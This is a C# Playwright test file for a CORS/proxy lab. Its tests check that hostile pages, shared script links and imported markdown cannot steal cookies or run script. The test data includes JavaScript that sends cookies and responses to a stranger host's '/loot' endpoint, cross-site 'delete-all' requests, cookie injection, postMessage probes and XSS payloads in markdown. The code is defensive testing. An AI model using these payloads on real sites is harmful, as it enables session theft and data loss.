using Microsoft.Playwright;
using ProxyVsCors.Browsers;
using ProxyVsCors.Lab.CommandLine;
using static Microsoft.Playwright.Assertions;

namespace ProxyVsCors.Browser.Tests.Lab;

/// <summary>A stranger's page, link and book, in real browsers, while the lab runs beside another application of the
/// visitor's.</summary>
public sealed class HostileTests(LabFixture lab) : IClassFixture<LabFixture>, IAsyncLifetime
{
    private readonly DirectoryInfo folder = Directory.CreateTempSubdirectory("hostile-");
    private Neighbours neighbours = null!;

    public static TheoryData<string> Engines => ["chromium", "firefox"];

    public async ValueTask InitializeAsync()
    {
        await lab.ResetAsync();
        neighbours = await Neighbours.StartAsync();
    }

    public async ValueTask DisposeAsync()
    {
        await neighbours.DisposeAsync();
        folder.Delete(recursive: true);
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public async Task A_strangers_page_takes_nothing_and_sets_nothing(string engine)
    {
        using var playwright = await Playwright.CreateAsync();
        await using var browser = await StartAsync(playwright, engine);
        await using var visitor = await browser.NewContextAsync();
        var page = await visitor.NewPageAsync();
        await page.GotoAsync(neighbours.Application);
        // The visitor has the lab open, and a run of the bench's under way or just over.
        var own = await visitor.NewPageAsync();
        await own.GotoAsync(lab.Address + "/book/S05?lang=en");
        await own.GetByRole(AriaRole.Button, new() { Name = "Run in this browser" }).ClickAsync();
        await Expect(own.Locator("[data-ran]")).ToHaveCountAsync(1, new() { Timeout = 30000 });
        neighbours.Page = StrangersPage();

        foreach (var bench in new[] { lab.Backend, lab.Gateway, lab.Stranger })
        {
            page = await visitor.NewPageAsync();
            await page.GotoAsync($"{neighbours.Stranger}/?bench={Uri.EscapeDataString(bench)}");
            await Expect(page.Locator("#done")).ToHaveTextAsync("done", new() { Timeout = 30000 });
            var answer = await page.RunAndWaitForResponseAsync(
                () => page.EvaluateAsync("() => { setTimeout(leave, 0); }"),
                response => response.Url.StartsWith(bench + "/bench/respond?run=left", StringComparison.Ordinal) && response.Frame == page.MainFrame);
            Assert.Equal(404, answer.Status);
        }

        Assert.Contains("/tried?bench", neighbours.Loot, StringComparison.Ordinal);
        Assert.DoesNotContain("VICTIM", neighbours.Loot, StringComparison.Ordinal);
        Assert.DoesNotContain("ran-on", neighbours.Loot, StringComparison.Ordinal);
        Assert.DoesNotContain("answered", neighbours.Loot, StringComparison.Ordinal);
        Assert.Empty(neighbours.Orders);
        Assert.DoesNotContain(await visitor.CookiesAsync(), cookie => cookie.Value.Contains("ATTACKER", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Engines))]
    public async Task A_strangers_link_shows_its_script_first_and_runs_without_the_visitors_cookies(string engine)
    {
        using var playwright = await Playwright.CreateAsync();
        await using var browser = await StartAsync(playwright, engine);
        var page = await browser.NewPageAsync();
        await page.GotoAsync(neighbours.Application);
        var script = $$"""
            const tell = (what) => fetch('{{neighbours.Stranger}}/loot', { method: 'POST', mode: 'no-cors', body: what });
            await tell(`ran on ${location.origin} ${document.referrer} ${document.cookie}`);
            await fetch('{{neighbours.Application}}/delete-all', { method: 'POST', mode: 'no-cors', credentials: 'include' }).catch(() => null);
            await tell(await fetch(api('/bench/echo'), { credentials: 'include' }).then((answer) => answer.text(), () => 'kept'));
            await tell(await fetch('{{lab.Backend}}/bench/echo?header=Access-Control-Allow-Origin:{origin}&run=' + new URL(api('/')).searchParams.get('run'), { credentials: 'include' }).then((answer) => answer.text(), () => 'kept'));
            try { top.location = '{{neighbours.Stranger}}/away'; } catch {}
            return 'done';
            """;

        await page.GotoAsync($"{lab.Address}/playground?lang=en&script={Uri.EscapeDataString(script)}");

        await Expect(page.GetByRole(AriaRole.Note)).ToContainTextAsync("It is a stranger's until you have changed it");
        await Expect(page.GetByLabel("Script")).ToHaveValueAsync(script);
        var run = page.GetByRole(AriaRole.Button, new() { Name = "Run on both side" });
        await Expect(run).ToBeDisabledAsync();
        await page.GetByLabel("Body").PressAsync("Enter");
        await page.EvaluateAsync("() => document.querySelector('form').requestSubmit()");
        Assert.Equal("", neighbours.Loot);

        await page.GetByRole(AriaRole.Button, new() { Name = "I have read the script" }).ClickAsync();
        await run.ClickAsync();

        foreach (var pane in new[] { "left", "right" })
            await Expect(page.Locator($"[data-result={pane}] .here-facts")).ToContainTextAsync("done", new() { Timeout = 30000 });
        var origins = neighbours.Loot.Split('\n').Where(line => line.Contains("ran on ", StringComparison.Ordinal)).ToList();
        Assert.Equal(2, origins.Count);
        Assert.All(origins, line => Assert.Matches(@"ran on http://lab-[0-9a-f]{12}\.localhost:[0-9]+ ", line));
        Assert.DoesNotContain("VICTIM", neighbours.Loot, StringComparison.Ordinal);
        Assert.DoesNotContain("othersession", neighbours.Loot, StringComparison.Ordinal);
        Assert.DoesNotContain("/playground", neighbours.Loot, StringComparison.Ordinal);
        Assert.DoesNotContain("/away", neighbours.Loot, StringComparison.Ordinal);
        // To another site no browser sends what is Strict; what says nothing of SameSite, Firefox sends for any page.
        Assert.All(neighbours.Orders, cookies => Assert.DoesNotContain(Neighbours.HttpOnly, cookies, StringComparison.Ordinal));
        Assert.StartsWith(lab.Address, page.Url, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_script_is_the_visitors_own_once_it_was_changed()
    {
        var page = await lab.Browser.NewPageAsync();
        await page.GotoAsync(lab.Address + "/playground?lang=en&script=return+1");
        var run = page.GetByRole(AriaRole.Button, new() { Name = "Run on both side" });

        await page.GetByLabel("Body").FillAsync("another body, the same script");
        await Expect(run).ToBeDisabledAsync();
        await page.GetByLabel("Script").FillAsync("return 2;");

        await Expect(run).ToBeEnabledAsync();
        await Expect(page.GetByRole(AriaRole.Note)).ToHaveCountAsync(0);
        await page.GotoAsync(lab.Address + "/playground?lang=en");
        await Expect(run).ToBeEnabledAsync();
        await page.CloseAsync();
    }

    [Fact]
    public async Task A_strangers_book_runs_in_throw_away_browsers_and_its_report_runs_nothing()
    {
        var book = Path.Combine(folder.FullName, "theirs.md");
        await File.WriteAllTextAsync(
            book,
            """
            ## Chapter <javascript:alert('chapter')>

            ### A1 Title [x](javascript:alert('title')) <img src=x onerror=alert('title')>

            Look: <javascript:alert('auto')> [here](javascript:alert('link')) <data:text/html,<script>alert(1)</script>>
            <script>alert('raw')</script> ![i](javascript:alert('image'))

            ```js page=frontend
            document.title = '\u001b[2J';
            console.error('\u001b]0;console\u0007');
            return '\u001b[2J\u001b]0;owned\u0007\n9999 matched, 0 differs <script>alert("got")</script>';
            ```

            | fact | gateway |
            |---|---|
            | page got | <javascript:alert('cell')> |
            """,
            TestContext.Current.CancellationToken);
        await using var output = new StringWriter();

        var exit = await LabCommandLine.RunAsync(
            ["compare", "--book", book, "--engines", "chromium", "--output", folder.FullName], output, output);

        Assert.Equal(1, exit);
        Assert.Contains("theirs.md is not the book of this program: its scripts run in throw-away browsers", output.ToString(), StringComparison.Ordinal);
        Assert.DoesNotContain(output.ToString(), c => char.IsControl(c) && c is not ('\n' or '\r'));
        Assert.DoesNotContain("\n9999 matched", output.ToString(), StringComparison.Ordinal);

        var page = await lab.Browser.NewPageAsync();
        var ran = new List<string>();
        page.Dialog += async (_, dialog) =>
        {
            ran.Add(dialog.Message);
            await dialog.DismissAsync();
        };
        await page.GotoAsync(new Uri(Path.Combine(folder.FullName, "report.html")).AbsoluteUri);
        foreach (var link in await page.Locator("main a").AllAsync())
        {
            var href = await link.GetAttributeAsync("href") ?? "";
            Assert.Matches("^(#|https?://)", href);
            if (href.StartsWith('#'))
                await link.EvaluateAsync("(a) => a.click()");
        }

        // Should a link slip through all the same, the page's policy stops it.
        await page.EvaluateAsync("""
            () => {
              const link = document.createElement('a');
              link.href = "javascript:alert('slipped')";
              document.body.append(link);
              link.click();
              const script = document.createElement('script');
              script.textContent = "alert('script')";
              document.body.append(script);
            }
            """);
        await page.EvaluateAsync("() => new Promise((resume) => setTimeout(resume, 100))");
        Assert.Empty(ran);
        await page.CloseAsync();
    }

    /// <summary>Tries every way in that does not take a click, then one navigation.</summary>
    private string StrangersPage() => $$"""
        <!doctype html><meta charset="utf-8"><p id="done"></p>
        <script>
        const me = '{{neighbours.Stranger}}', lab = '{{lab.Address}}', frontend = '{{lab.Frontend}}', application = '{{neighbours.Application}}';
        const bench = new URLSearchParams(location.search).get('bench');
        const tell = (what) => fetch(me + '/tried?bench', { method: 'POST', body: what });
        const allow = 'header=Access-Control-Allow-Origin:{origin}&header=Access-Control-Allow-Credentials:true';
        const inTime = (promise) => Promise.race([promise, new Promise((resume) => setTimeout(resume, 1000, 'nothing'))]);
        const script = `fetch('${me}/ran-on?' + location.origin);
          fetch('/bench/echo?known={{Neighbours.HttpOnly}}').then((a) => a.text()).then((t) => fetch('${me}/loot', { method: 'POST', mode: 'no-cors', body: t + document.cookie }));
          fetch('${application}/delete-all', { method: 'POST', mode: 'no-cors', credentials: 'include' });`;
        const page = `/bench/respond?run=left&header=Content-Type:text/html&header=Content-Security-Policy:&set-cookie=${encodeURIComponent('othersession=ATTACKER; Path=/')}&body=`
          + encodeURIComponent(`<script>${script}<\/script>`);
        const frame = (address) => new Promise((resolve) => {
          const it = document.createElement('iframe');
          it.onload = () => resolve(it);
          it.src = address;
          document.body.append(it);
          setTimeout(() => resolve(it), 1000);
        });
        const command = { id: 1, act: 'run', source: `async () => { fetch('${me}/ran-in-a-script-frame'); return 'answered'; }`, argument: '' };
        addEventListener('message', (event) => { if (JSON.stringify(event.data).includes('answered')) tell('a script frame answered ' + event.origin); });

        window.leave = () => { location = bench + page; };
        (async () => {
          for (const path of ['/bench/journal?', '/bench/echo?', '/bench/respond?body=answered&'])
            await inTime(fetch(`${bench}${path}run=left&${allow}`, { credentials: 'include' }).then((answer) => answer.text()).then((text) => tell('answered: ' + text), () => tell('kept')));
          for (const address of [lab + '/live', lab + '/live/cookies', lab + '/live/exchanges/left/1', lab + '/live/engines/cells'])
            await inTime(fetch(address, { credentials: 'include' }).then((answer) => answer.text()).then((text) => tell('answered: ' + text), () => tell('kept')));
          const wish = JSON.stringify({ pane: 'left', topology: 'credentials', scenario: 'S05' });
          await inTime(fetch(lab + '/live/runs', { method: 'POST', mode: 'no-cors', credentials: 'include', body: wish }).catch(() => null));
          await inTime(fetch(lab + '/live/runs', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: wish }).then((answer) => answer.text()).then((text) => tell('answered: ' + text), () => tell('kept')));
          for (const address of [bench + page, bench + '/script-frame', frontend + '/script-frame', lab + '/'])
            (await frame(address)).contentWindow.postMessage(command, '*');
          for (const address of [frontend + '/script-frame', lab + '/playground']) {
            const popup = window.open(address);
            await new Promise((resume) => setTimeout(resume, 400));
            try { popup?.postMessage(command, '*'); } catch {}
            popup?.close();
          }
          await tell('all tried');
          document.getElementById('done').textContent = 'done';
        })();
        </script>
        """;

    private static Task<IBrowser> StartAsync(IPlaywright playwright, string name)
    {
        var engine = EngineCatalog.All.Single(engine => engine.Name == name);
        Assert.SkipWhen(engine.Executable is null, $"{name} is not installed");
        return name == "firefox"
            ? playwright.Firefox.LaunchAsync(new() { ExecutablePath = engine.Executable, Channel = "moz-firefox" })
            : playwright.Chromium.LaunchAsync(new() { ExecutablePath = engine.Executable, ChromiumSandbox = !Environment.IsPrivilegedProcess });
    }
}
